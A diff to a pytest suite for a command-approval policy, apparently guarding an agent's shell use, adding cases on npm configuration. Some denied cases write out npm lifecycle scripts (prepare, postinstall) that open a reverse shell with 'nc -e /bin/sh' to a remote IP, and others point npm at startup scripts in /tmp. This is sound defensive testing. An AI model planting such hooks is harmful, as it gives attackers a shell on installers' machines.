@@ -46,7 +46,25 @@ async def test_other_routes_are_denied(line: str) -> None:
      "docker run -v pgdata:/var/lib/postgresql/data postgres:16",
      "docker run -v ./site:/usr/share/nginx/html:ro nginx",
      "git diff --no-index expected.txt actual.txt",
-     "git diff HEAD~1 -- src/"],
+     "git diff HEAD~1 -- src/", "npm config set save-exact true",
+     "npm pkg set scripts.test='vitest run'"],
 )  # fmt: skip
+@pytest.mark.parametrize(
+    "line",
+    ["npm config set script-shell /tmp/x.sh", "npm config set node-options '--require /tmp/h.js'"],
+)
+async def test_a_tool_config_that_starts_a_program_asks(line: str) -> None:
+    assert await verdict_of(line) is Verdict.REQUIRE_APPROVAL, line
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["npm pkg set scripts.prepare='nc -e /bin/sh 10.0.0.5 4444'",
+     "echo ok && npm pkg set scripts.postinstall='nc -e /bin/sh 10.0.0.5 4444'"],
+)  # fmt: skip
+async def test_a_lifecycle_script_set_by_npm_pkg_is_judged_as_code(line: str) -> None:
+    assert await verdict_of(line) is Verdict.DENY, line
+
+
 async def test_everyday_mounts_and_diffs_stay_allowed(line: str) -> None:
     assert await verdict_of(line) is Verdict.ALLOW, line
